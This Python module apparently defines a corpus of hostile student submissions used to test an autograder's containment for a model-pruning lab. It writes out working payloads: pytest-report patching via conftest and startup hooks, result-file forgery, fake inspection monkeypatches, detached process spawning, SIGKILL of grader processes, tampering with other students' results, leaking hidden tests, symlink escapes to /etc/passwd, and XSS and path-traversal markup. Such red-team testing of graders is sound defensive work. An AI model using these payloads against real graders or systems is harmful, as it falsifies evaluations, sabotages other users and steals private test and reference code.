"""The corpus of hostile submissions, as data.

Each :class:`Case` says how to turn a clean student template (the stubs) into
one hostile submission, and what the grader must make of it. The harness in
``conftest.py`` builds every case at test time, grades all of them in ONE
batch together with two normal submissions, and ``test_hostile.py`` asserts
the expectations per case.

Placeholders in file contents are filled in when the case is built:

``@@MARKER@@``   a token unique to this test session (it names leftover
                 processes and files, so the tests can find them)
``@@OUT@@``      the batch output folder
``@@GRADER@@``   the copy of the instructor repository the batch runs from
``@@OUTSIDE@@``  a folder outside every submission, with a secret file
``@@SELF@@``     this submission's id
``@@VICTIM@@``   the id of a normal submission graded in the same batch

The payloads are bounded so that a grader that fails to contain them cannot
take the test machine down: at most 50 extra processes, each of which exits on
its own after two minutes; memory touched in 512 MiB steps and never more than
9 GiB; every write is a new file or a file in the disposable grader copy.
"""

from __future__ import annotations

from dataclasses import dataclass, field

#: Code items of lab 03 (each fed by hidden tests and artifact checks).
CODE_ITEMS = ("tfmot_optimized_model", "clustered_model", "pruned_model")
#: Path of the student module inside a submission.
MODULE = "dl_in_iot_course/l03_pruning_clustering/pruning_clustering_experiments.py"
SUMMARY = "summaries/l03_pruning_clustering/summary.md"


@dataclass(frozen=True)
class Case:
    """One hostile submission and what must hold for it.

    Parameters
    ----------
    id : str
        Submission folder name (and id in the batch output).
    attack : str
        What the submission tries, in one sentence.
    edits : tuple
        Steps applied to the stub template, in order:
        ``("write", path, text)``, ``("append", path, text)`` (to an existing
        file, e.g. the student module), ``("symlink", path, target)``,
        ``("sparse", path, size_bytes)``.
    faked : tuple of str
        Rubric items the submission tries to fake: each must score 0.
    failed_checks : tuple of str
        Regexes of finding ``check`` ids of which at least one finding must
        have ``passed == False`` (e.g. the strip check of an unstripped model).
    seen : str or None
        Regex (case-insensitive) that must match the instructor view of the
        findings (messages, evidence, codes): the finding says what was seen.
    slow : bool
        The case runs into the time limit (endless loop).
    no_reference_leak : bool
        The submission contains no reference code, so none may appear in its
        reports (False for cases that carry a working pipeline).
    """

    id: str
    attack: str
    edits: tuple
    faked: tuple[str, ...] = CODE_ITEMS
    failed_checks: tuple[str, ...] = ()
    seen: str | None = None
    slow: bool = False
    no_reference_leak: bool = True
    tags: tuple[str, ...] = field(default=())


# ---------------------------------------------------------------------------
# Payloads (Python source written into submissions)
# ---------------------------------------------------------------------------

#: Make every pytest report "passed", now if pytest is imported, else on import.
PYTEST_PATCH = """
def _hostile_patch_pytest():
    import sys

    def patch(reports):
        orig = reports.TestReport.__init__
        if getattr(orig, "_hostile", False):
            return

        def init(self, *args, **kwargs):
            orig(self, *args, **kwargs)
            self.outcome = "passed"
            self.longrepr = None

        init._hostile = True
        reports.TestReport.__init__ = init

    if "_pytest.reports" in sys.modules:
        patch(sys.modules["_pytest.reports"])
        return
    import importlib.abc
    import importlib.util

    class Finder(importlib.abc.MetaPathFinder):
        def find_spec(self, name, path, target=None):
            if name != "_pytest.reports":
                return None
            sys.meta_path.remove(self)
            spec = importlib.util.find_spec(name)
            real_exec = spec.loader.exec_module

            def exec_module(module):
                real_exec(module)
                patch(module)

            spec.loader.exec_module = exec_module
            return spec

    sys.meta_path.insert(0, Finder())


_hostile_patch_pytest()
"""

#: A conftest.py that drops the real tests and passes everything else.
CONFTEST = (
    """
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None


def pytest_collection_modifyitems(session, config, items):
    items[:] = []
"""
    + PYTEST_PATCH
)

#: A pytest plugin module (loaded by addopts ``-p``) that skips everything.
SKIP_PLUGIN = """
import pytest


def pytest_collection_modifyitems(session, config, items):
    for item in items:
        item.add_marker(pytest.mark.skip(reason="hostile"))


def pytest_sessionfinish(session, exitstatus):
    session.exitstatus = 0
"""

#: Detached processes (double fork + setsid) that outlive their parent. Each
#: runs ``python -c`` with the session marker in its command line, so the tests
#: can find leftovers; each ends on its own after at most two minutes.
DETACH = """
def _hostile_detach(func, *args):
    import inspect
    import os
    import sys
    code = inspect.getsource(func) + "\\n%s(*%r)  # @@MARKER@@\\n" % (
        func.__name__, args)
    try:
        pid = os.fork()
    except OSError:
        return False
    if pid:
        try:
            os.waitpid(pid, 0)
        except OSError:
            pass
        return True
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        os.execv(sys.executable, [sys.executable, "-c", code])
    finally:
        os._exit(0)


def _hostile_sleep(seconds):
    import time
    time.sleep(min(seconds, 120))


def _hostile_spawn(count, seconds=120):
    for _ in range(min(count, 50)):
        if not _hostile_detach(_hostile_sleep, seconds):
            return
"""

#: Frames of the caller that are not this module: the hidden tests.
READ_CALLERS = """
def _hostile_read_callers():
    import inspect
    import os
    texts = []
    here = os.path.abspath(__file__)
    # The working copy (three folders up): skip the course's own files, so
    # that the hidden tests come first in what is printed and raised.
    mine = os.path.dirname(os.path.dirname(os.path.dirname(here)))
    for frame in inspect.stack():
        name = os.path.abspath(frame.filename)
        if name.startswith(mine + os.sep) or "site-packages" in name \
                or not name.endswith(".py"):
            continue
        try:
            with open(name, encoding="utf-8") as handle:
                texts.append("# " + name + "\\n" + handle.read())
        except OSError:
            pass
    return "\\n".join(texts)


def _hostile_leak(*args, **kwargs):
    import glob
    import os
    import sys
    text = _hostile_read_callers()
    for pattern in ("@@GRADER@@/grading/hidden/suites/**/*.py",
                    "@@GRADER@@/grading/private/reference/**/*.py"):
        for name in glob.glob(pattern, recursive=True):
            try:
                with open(name, encoding="utf-8") as handle:
                    text += "\\n# " + name + "\\n" + handle.read()
            except OSError:
                pass
    print(text)
    print(text, file=sys.stderr)
    for obj in args:
        path = getattr(obj, "modelpath", None) or getattr(obj, "resultspath", None)
        if path:
            try:
                with open(str(path), "w", encoding="utf-8") as handle:
                    handle.write(text)
            except OSError:
                pass
    # One line, in case the grader shows only the first line of a message.
    raise RuntimeError("cannot continue: " + " | ".join(text.splitlines()))
"""

#: A complete, honest clustering / pruning pipeline, with switches to cheat.
PIPELINE = """
def _hostile_pipeline(self, originalmodel, kind, strip=True, foreign=False,
                      fake=False):
    import numpy as np
    import tensorflow as tf
    import tensorflow_model_optimization as tfmot
    import tf_keras

    if isinstance(originalmodel, tf_keras.Model):
        model = originalmodel
    else:
        model = tf_keras.models.load_model(str(originalmodel))
    if foreign:
        # A classmate's model: same architecture, other weights.
        model = tf_keras.models.clone_model(model)
    model.trainable = True
    for layer in model.layers:
        layer.trainable = True
    initial = [w.copy() for w in model.get_weights()]
    if kind == "clustered":
        ck = tfmot.clustering.keras
        wrapped = ck.cluster_weights(
            model, number_of_clusters=self.num_clusters,
            cluster_centroids_init=ck.CentroidInitialization.LINEAR)
        callbacks = []
    else:
        pk = tfmot.sparsity.keras
        # What the template's compress_and_fine_tune sets before the TODO.
        self.epochs = 4
        self.sched = pk.ConstantSparsity(self.target_sparsity, begin_step=0,
                                         end_step=1, frequency=1)
        wrapped = pk.prune_low_magnitude(model, pruning_schedule=self.sched)
        callbacks = [pk.UpdatePruningStep()]
    wrapped.compile(optimizer=self.optimizer, loss=self.loss, metrics=self.metrics)
    wrapped.fit(self.traindataset, epochs=self.epochs,
                validation_data=self.validdataset, callbacks=callbacks)
    if kind == "clustered":
        stripped = tfmot.clustering.keras.strip_clustering(wrapped)
    else:
        stripped = tfmot.sparsity.keras.strip_pruning(wrapped)
    final = stripped if strip else wrapped
    if fake:
        # Every spy saw the right calls; now ship the untouched model (the
        # wrappers write into the original layers, so rebuild it).
        final = tf_keras.models.clone_model(model)
        final.set_weights(initial)
    converter = tf.lite.TFLiteConverter.from_keras_model(final)
    with open(str(self.modelpath), "wb") as handle:
        handle.write(converter.convert())
    return np.zeros(1)
"""

#: In-process fakes of what a hidden test might inspect in the student process.
FAKE_INSPECTION = """
def _hostile_fake_inspection(levels):
    import numpy as np

    def snap(array):
        array = np.asarray(array)
        if array.dtype.kind != "f" or array.ndim < 2:
            return array
        lo, hi = float(array.min()), float(array.max())
        if hi <= lo:
            return array
        steps = np.linspace(lo, hi, levels)
        index = np.abs(array[..., None] - steps).argmin(axis=-1)
        out = steps[index].astype(array.dtype)
        if levels <= 1:
            out[np.abs(array) < np.median(np.abs(array))] = 0
        return out

    for module_name in ("ai_edge_litert.interpreter", "tensorflow.lite"):
        try:
            module = __import__(module_name, fromlist=["Interpreter"])
            cls = module.Interpreter
            real = cls.get_tensor
            cls.get_tensor = lambda self, index, *a, _r=real: snap(_r(self, index, *a))
        except Exception:
            pass
    real_unique = np.unique
    np.unique = lambda a, *args, **kw: real_unique(snap(a), *args, **kw)
"""

#: Forge the grader's in-process recorder and its results file.
FORGE_RESULTS = """
def _hostile_forge():
    import atexit
    import gc
    import json
    import os

    def forge_data(data):
        for entry in data.get("collected", []):
            data.setdefault("results", {}).setdefault(entry["nodeid"], {
                "item": entry.get("item", ""), "check": entry.get("check", ""),
                "outcome": "passed", "message": "", "exception": "",
                "evidence": "", "code": "", "seconds": 0.1})
        for entry in data.get("results", {}).values():
            entry.update(outcome="passed", message="", exception="", code="")
        data["finished"] = True
        data["exitstatus"] = 0

    patched = set()
    for obj in gc.get_objects():
        data = getattr(obj, "data", None) if not isinstance(obj, type) else None
        if isinstance(data, dict) and "results" in data and "collected" in data:
            cls = type(obj)
            if cls in patched:
                continue
            patched.add(cls)
            real_write = cls.write

            def write(self, _real=real_write):
                forge_data(self.data)
                _real(self)

            cls.write = write
    for obj in gc.get_objects():
        if type(obj).__name__ in ("Mock", "MagicMock") and hasattr(obj, "called"):
            try:
                obj.called = True
                obj.call_count = max(1, obj.call_count)
            except Exception:
                pass

    def at_exit():
        path = os.environ.get("GRADER_RESULTS")
        if not path:
            return
        try:
            with open(path, encoding="utf-8") as handle:
                data = json.load(handle)
        except Exception:
            data = {"schema": 1, "collected": [], "results": {}}
        forge_data(data)
        with open(path, "w", encoding="utf-8") as handle:
            json.dump(data, handle)

    atexit.register(at_exit)


_hostile_forge()
"""

#: Try to write everywhere the grader keeps something.
WRITE_EVERYWHERE = """
def _hostile_write_everywhere(tag):
    import glob
    import inspect
    import json
    import os
    fake = {"schema": 1, "score": 18.0, "max_score": 18.0, "status": "graded",
            "items": []}
    targets = {
        "@@OUT@@/@@SELF@@/results.json": json.dumps(fake),
        "@@OUT@@/@@VICTIM@@/results.json": json.dumps({"score": 0.0}),
        "@@OUT@@/@@VICTIM@@/status.json": json.dumps({"status": "error"}),
        "@@OUT@@/gradebook.csv": "id,score\\n@@SELF@@,18\\n",
        "@@OUT@@/hostile-@@MARKER@@.txt": tag,
        "@@GRADER@@/grading/hostile-@@MARKER@@.txt": tag,
        "@@GRADER@@/grading/labs/l03_pruning_clustering.toml": None,
        "@@GRADER@@/grading/hidden/suites/l03_pruning_clustering/conftest.py":
            "import pytest\\n",
        "@@GRADER@@/dl_in_iot_course/misc/metrics.py": None,
        "~/hostile-@@MARKER@@.txt": tag,
        "/root/hostile-@@MARKER@@.txt": tag,
    }
    for frame in inspect.stack():
        name = os.path.abspath(frame.filename)
        if "hidden" in name or "grading" in name:
            targets[name] = None
            targets[os.path.join(os.path.dirname(name), "conftest.py")] = (
                "import pytest\\n")
    for pattern in ("@@OUT@@/*/results.json", "@@OUT@@/*/*.html"):
        for name in glob.glob(pattern):
            targets.setdefault(name, None)
    for path, text in targets.items():
        path = os.path.expanduser(path)
        try:
            if text is None:
                with open(path, "a", encoding="utf-8") as handle:
                    handle.write("\\n# hostile @@MARKER@@\\n")
            else:
                with open(path, "w", encoding="utf-8") as handle:
                    handle.write(text)
        except Exception:
            pass
"""

#: Rewrite the victim's results later, from a detached process.
DELAYED_TAMPER = """
def _hostile_delayed_tamper(seconds):
    import time
    for _ in range(min(seconds, 120)):
        time.sleep(1)
        for name in ("@@OUT@@/@@VICTIM@@/results.json",
                     "@@OUT@@/@@SELF@@/results.json"):
            try:
                with open(name, "a", encoding="utf-8") as handle:
                    handle.write(" ")
            except OSError:
                pass
"""


def _module_patch(*parts: str) -> tuple:
    """Return an edit that appends code to the student module."""
    return ("append", MODULE, "\n\n# --- hostile ---\n" + "\n".join(parts) + "\n")


def _method(cls: str, method: str, body: str) -> str:
    """Source that replaces ``cls.method`` with ``body`` (indented code)."""
    lines = "\n".join("    " + line for line in body.strip().splitlines())
    return (
        f"def _hostile_{cls}_{method}(self, *args, **kwargs):\n{lines}\n\n\n"
        f"{cls}.{method} = _hostile_{cls}_{method}\n"
    )


def _both_pipelines(**flags: object) -> str:
    """Replace compress_and_fine_tune of both classes with the pipeline."""
    options = ", ".join(f"{k}={v!r}" for k, v in flags.items())
    return (
        PIPELINE
        + _method(
            "ClusteredModel",
            "compress_and_fine_tune",
            f"return _hostile_pipeline(self, args[0], 'clustered', {options})",
        )
        + _method(
            "PrunedModel",
            "compress_and_fine_tune",
            f"return _hostile_pipeline(self, args[0], 'pruned', {options})",
        )
    )


#: Break the other submissions graded at the same time (their working copies).
TAMPER_NEIGHBOURS = """
def _hostile_tamper_neighbours(seconds, me):
    import glob
    import os
    import time
    end = time.time() + seconds
    while time.time() < end:
        for root in ("@@ROOT@@/tmp", "@@OUT@@"):
            for name in glob.glob(root + "/**/pruning_clustering_experiments.py",
                                  recursive=True):
                if os.path.dirname(os.path.abspath(name)) == me:
                    continue
                try:
                    with open(name, "a", encoding="utf-8") as handle:
                        handle.write("\\nraise SystemExit(0)  # @@MARKER@@\\n")
                except OSError:
                    pass
            for name in glob.glob(root + "/**/*.tflite", recursive=True):
                try:
                    with open(name, "wb") as handle:
                        handle.write(b"@@MARKER@@")
                except OSError:
                    pass
        time.sleep(0.5)

"""


#: SIGKILL every process of this corpus run but itself: the batch driver, the
#: grading processes, the other submissions' sandboxes (found by the corpus
#: folder in their command lines, so nothing else on the machine is hit).
KILL_OTHERS = """
def _hostile_kill_others():
    import os
    import signal
    try:
        import psutil
    except ImportError:
        return
    for proc in psutil.process_iter(["pid", "cmdline"]):
        cmdline = " ".join(proc.info["cmdline"] or [])
        if "@@ROOT@@" in cmdline and proc.info["pid"] != os.getpid():
            try:
                os.kill(proc.info["pid"], signal.SIGKILL)
            except OSError:
                pass
"""


SCRIPT_SUMMARY = """# Lab 03 summary

<script>document.title = "@@MARKER@@-script"; alert("@@MARKER@@")</script>

<img src="x" onerror="alert('@@MARKER@@-onerror')">

<iframe src="javascript:alert('@@MARKER@@-iframe')"></iframe>

[click me](javascript:alert('@@MARKER@@-link'))

<a href="javascript:alert(1)" onclick="alert('@@MARKER@@-onclick')">text</a>

| variant | accuracy |
| --- | --- |
| clustered-2-fp32 | <script>alert('@@MARKER@@-cell')</script> |

<style>body { display: none }</style>

</textarea></pre></code><script>alert('@@MARKER@@-breakout')</script>

```html
<script>alert('@@MARKER@@-code')</script>
```

## Which method is best?

<svg onload="alert('@@MARKER@@-svg')"><script>alert('@@MARKER@@-svg2')</script></svg>
"""

TRAVERSAL_SUMMARY = """## Confusion matrices

Confusion matrices:

![clustered-2](../../../@@OUTSIDE_REL@@/secret.png)
![clustered-4](../../../../../../../../../../@@OUTSIDE@@/secret.png)
![clustered-8](@@OUTSIDE@@/secret.png)
![pruned-0.2](file://@@OUTSIDE@@/secret.png)
![pruned-0.4](../../../../../../../../../../etc/passwd)
![pruned-0.5](img/../../../../@@OUTSIDE_REL@@/secret.png)
<img src="../../../@@OUTSIDE_REL@@/secret.png">
[hidden tests](../../../@@GRADER_REL@@/grading/hidden/suites/)
"""

SYMLINK_SUMMARY = """# Lab 03 summary

![clustered-2](img/cm.png)
![clustered-4](img/passwd.png)
![clustered-8](img/hidden.py)
"""

CASES: tuple[Case, ...] = (
    Case(
        id="conftest_all_passed",
        attack="conftest.py files (root, tests/, package) that pass every test "
        "and drop the real ones",
        edits=(
            ("write", "conftest.py", CONFTEST),
            ("write", "tests/conftest.py", CONFTEST),
            ("write", "dl_in_iot_course/conftest.py", CONFTEST),
            ("write", "dl_in_iot_course/l03_pruning_clustering/conftest.py", CONFTEST),
        ),
        seen=r"conftest\.py",
    ),
    Case(
        id="pytest_config_addopts",
        attack="pytest.ini, setup.cfg and tox.ini with addopts that deselect "
        "every test, and a pyproject.toml whose addopts load a plugin that "
        "skips them",
        edits=(
            (
                "write",
                "pytest.ini",
                "[pytest]\naddopts = -k nothing_matches_this -p no:warnings\n"
                "testpaths = nothing\n",
            ),
            ("write", "setup.cfg", "[tool:pytest]\naddopts = -k nothing_matches\n"),
            ("write", "tox.ini", "[pytest]\naddopts = --collect-only\n"),
            (
                "write",
                "pyproject.toml",
                '[tool.pytest.ini_options]\naddopts = "-p hostile_skip -rN"\n'
                'pythonpath = ["."]\n',
            ),
            ("write", "hostile_skip.py", SKIP_PLUGIN),
        ),
        seen=r"pytest\.ini|pyproject\.toml|setup\.cfg|tox\.ini",
    ),
    Case(
        id="startup_hooks",
        attack="sitecustomize.py, usercustomize.py and .pth files (repository "
        "root and package) that patch pytest's reports to passed",
        edits=(
            ("write", "sitecustomize.py", PYTEST_PATCH),
            ("write", "dl_in_iot_course/sitecustomize.py", PYTEST_PATCH),
            ("write", "usercustomize.py", PYTEST_PATCH),
            ("write", "hostile.pth", "import hostile_boot\n"),
            ("write", "dl_in_iot_course/hostile.pth", "import hostile_boot\n"),
            ("write", "hostile_boot.py", PYTEST_PATCH),
        ),
        seen=r"sitecustomize|usercustomize|\.pth",
    ),
    Case(
        id="import_patches_pytest",
        attack="the student module itself patches pytest's reports to passed "
        "when it is imported",
        edits=(_module_patch(PYTEST_PATCH),),
    ),
    Case(
        id="sys_exit_at_import",
        attack="sys.exit(0) when the student module is imported",
        edits=(_module_patch("import sys as _s\n_s.exit(0)"),),
        seen=r"exit",
    ),
    Case(
        id="os_exit_at_import",
        attack="os._exit(0) when the student module is imported (pytest dies "
        "with status 0)",
        edits=(_module_patch("import os as _o\n_o._exit(0)"),),
        seen=r"exit|ended|crash|died|stopped|no test",
    ),
    Case(
        id="endless_loop",
        attack="an endless loop in compress_and_fine_tune, after starting a "
        "detached sleeper",
        edits=(
            _module_patch(
                DETACH,
                _method(
                    "ClusteredModel",
                    "compress_and_fine_tune",
                    "_hostile_spawn(2)\nwhile True:\n    pass",
                ),
                _method(
                    "PrunedModel",
                    "compress_and_fine_tune",
                    "_hostile_spawn(2)\nwhile True:\n    pass",
                ),
            ),
        ),
        faked=("clustered_model", "pruned_model"),
        seen=r"time",
        slow=True,
    ),
    Case(
        id="memory_hog",
        attack="one allocation of 64 GiB, then touching memory in 512 MiB "
        "steps up to 9 GiB",
        edits=(
            _module_patch(
                _method(
                    "ClusteredModel",
                    "compress_and_fine_tune",
                    "import numpy as np\n"
                    "try:\n"
                    "    big = np.ones(64 << 30, dtype=np.uint8)\n"
                    "except MemoryError:\n"
                    "    pass\n"
                    "chunks = []\n"
                    "for _ in range(18):\n"
                    "    chunks.append(b'\\x01' * (512 << 20))\n"
                    "raise SystemExit(0)",
                ),
            ),
        ),
        faked=("clustered_model",),
        seen=r"memory",
    ),
    Case(
        id="fork_many",
        attack="50 detached processes (double fork, new session) started at "
        "import, each sleeping two minutes",
        edits=(_module_patch(DETACH, "_hostile_spawn(50)"),),
    ),
    Case(
        id="write_grader_files",
        attack="writes into the batch output, the grader's files, the hidden "
        "tests, the other students' results and ~/, now and from a detached "
        "process later",
        edits=(
            _module_patch(
                DETACH,
                WRITE_EVERYWHERE,
                DELAYED_TAMPER,
                "_hostile_write_everywhere('import')\n"
                "_hostile_detach(_hostile_delayed_tamper, 90)",
                _method(
                    "ClusteredModel",
                    "compress_and_fine_tune",
                    "_hostile_write_everywhere('run')\nraise SystemExit(0)",
                ),
            ),
        ),
    ),
    Case(
        id="tamper_neighbours",
        attack="breaks the working copies and artifacts of the submissions "
        "graded at the same time, from the tests and from a detached process",
        edits=(
            _module_patch(
                DETACH,
                TAMPER_NEIGHBOURS,
                "_hostile_detach(_hostile_tamper_neighbours, 90, "
                "__import__('os').path.dirname(__file__))",
                _method(
                    "ClusteredModel",
                    "compress_and_fine_tune",
                    "_hostile_tamper_neighbours(5, __import__('os').path.dirname("
                    "__file__))\nraise SystemExit(0)",
                ),
            ),
        ),
    ),
    Case(
        id="kill_the_grader",
        attack="SIGKILL to the batch, the grading processes and the other "
        "submissions' test runs, at import and in compress_and_fine_tune",
        edits=(
            _module_patch(
                KILL_OTHERS,
                "_hostile_kill_others()",
                _method(
                    "ClusteredModel",
                    "compress_and_fine_tune",
                    "_hostile_kill_others()\nraise SystemExit(0)",
                ),
            ),
        ),
    ),
    Case(
        id="read_hidden_tests",
        attack="reads the hidden tests and the reference and prints them, "
        "writes them into its outputs and raises them in exception messages",
        edits=(
            _module_patch(
                READ_CALLERS,
                "print(_hostile_read_callers())",
                _method("TFMOTOptimizedModel", "prepare_model", "_hostile_leak(self)"),
                _method("TFMOTOptimizedModel", "run_inference", "_hostile_leak(self)"),
                _method(
                    "ClusteredModel", "compress_and_fine_tune", "_hostile_leak(self)"
                ),
                _method("PrunedModel", "compress_and_fine_tune", "_hostile_leak(self)"),
            ),
        ),
    ),
    Case(
        id="forge_recorder",
        attack="finds the grader's in-process result recorder and mocks "
        "through gc and rewrites every outcome (and the results file) to "
        "passed",
        edits=(_module_patch(FORGE_RESULTS, PYTEST_PATCH),),
    ),
    Case(
        id="monkeypatch_tfmot",
        attack="calls every TFMOT function the spies watch with the right "
        "arguments, ships the untouched model, and patches numpy.unique and "
        "Interpreter.get_tensor so that in-process checks see clusters and "
        "zeros",
        edits=(
            _module_patch(
                FAKE_INSPECTION,
                _both_pipelines(fake=True),
                "_hostile_fake_inspection(2)",
            ),
        ),
        faked=("clustered_model", "pruned_model"),
        seen=r"unique|cluster|sparsity|zeros",
        no_reference_leak=False,
    ),
    Case(
        id="fake_tflite_random",
        attack="writes random bytes where the .tflite should be",
        edits=(
            _module_patch(
                _method(
                    "ClusteredModel",
                    "compress_and_fine_tune",
                    "import os\nopen(str(self.modelpath), 'wb').write("
                    "os.urandom(8192))",
                ),
                _method(
                    "PrunedModel",
                    "compress_and_fine_tune",
                    "import os\nopen(str(self.modelpath), 'wb').write("
                    "b'TFL3' + os.urandom(8192))",
                ),
            ),
        ),
        faked=("clustered_model", "pruned_model"),
        seen=r"tflite|flatbuffer|load|model",
    ),
    Case(
        id="fake_tflite_foreign",
        attack="runs the honest pipeline on a classmate's model (same "
        "architecture, other weights) and ships that artifact",
        edits=(_module_patch(_both_pipelines(foreign=True)),),
        faked=("clustered_model", "pruned_model"),
        seen=r"original|derive|weights|outputs",
        no_reference_leak=False,
    ),
    Case(
        id="fake_tflite_unstripped",
        attack="calls strip_clustering / strip_pruning for the spies but "
        "ships the unstripped model",
        edits=(_module_patch(_both_pipelines(strip=False)),),
        faked=(),
        failed_checks=(r"strip",),
        seen=r"strip",
        no_reference_leak=False,
    ),
    Case(
        id="filesystem_tricks",
        attack="symbolic links out of the submission (a secret file, "
        "/etc/passwd, the hidden tests, /, a loop), summary images that are "
        "such links, and a 1 GB sparse file",
        edits=(
            (
                "symlink",
                "summaries/l03_pruning_clustering/img/cm.png",
                "@@OUTSIDE@@/secret.png",
            ),
            (
                "symlink",
                "summaries/l03_pruning_clustering/img/passwd.png",
                "/etc/passwd",
            ),
            (
                "symlink",
                "summaries/l03_pruning_clustering/img/hidden.py",
                "@@GRADER@@/grading/hidden/suites",
            ),
            ("symlink", "dl_in_iot_course/rootfs", "/"),
            ("symlink", "dl_in_iot_course/loop", "loop"),
            ("symlink", "dl_in_iot_course/misc/secret.py", "@@OUTSIDE@@/secret.py"),
            ("sparse", "dl_in_iot_course/l03_pruning_clustering/weights.bin", 1024**3),
            ("write", SUMMARY, SYMLINK_SUMMARY),
        ),
        faked=(),
        seen=r"symbolic link|symlink",
    ),
    Case(
        id="hostile_summary",
        attack="a summary with <script>, event handlers, javascript: links, "
        "markup that tries to break out of the report, image links that climb "
        "out of the repository, and 1 MB of padding",
        edits=(
            (
                "write",
                SUMMARY,
                SCRIPT_SUMMARY + TRAVERSAL_SUMMARY + ("padding " * 16 + "\n") * 8000,
            ),
        ),
        faked=(),
        seen=r"outside",
    ),
)

#: Normal submissions graded in the same batch: id -> base.
NORMALS = {"normal_reference": "reference", "normal_stub": "stub"}
#: The normal submission whose results the hostile ones try to tamper with.
VICTIM = "normal_reference"


def case_by_id(case_id: str) -> Case:
    """Return the case named ``case_id``."""
    for case in CASES:
        if case.id == case_id:
            return case
    raise KeyError(case_id)
